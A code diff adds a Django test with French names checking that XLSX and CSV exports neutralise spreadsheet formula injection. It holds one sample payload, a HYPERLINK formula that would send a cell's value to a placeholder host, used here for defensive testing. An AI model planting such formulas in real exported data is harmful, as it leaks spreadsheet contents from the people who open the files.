@@ -43,3 +43,25 @@ def test_memes_valeurs_que_django_tables2(donnees, table_class, selector):
     assert obtenu[0] == [str(c.header) for c in colonnes]
     assert obtenu[1:] == attendu
     assert len(attendu) > 5
+
+
+def test_pas_d_injection_de_formule(db, gestionnaire):
+    from io import BytesIO
+
+    from openpyxl import load_workbook
+
+    from tests.factories import OrganismeFactory, SubventionFactory
+
+    OrganismeFactory(nom_legal='=HYPERLINK("http://exemple.invalid/?"&A1,"Cliquez")')
+    SubventionFactory(titre="=1+1")
+    from django.test import Client
+
+    client = Client()
+    client.force_login(gestionnaire)
+    reponse = client.get("/organismes/?_export=xlsx")
+    feuille = load_workbook(BytesIO(b"".join(reponse.streaming_content))).active
+    noms = [ligne[0] for ligne in feuille.iter_rows(min_row=2, values_only=True)]
+    assert '=HYPERLINK("http://exemple.invalid/?"&A1,"Cliquez")' in noms
+    assert all(c.data_type != "f" for ligne in feuille.iter_rows() for c in ligne)
+    csv = b"".join(client.get("/subventions/?_export=csv").streaming_content).decode("utf-8-sig")
+    assert ",'=1+1," in csv
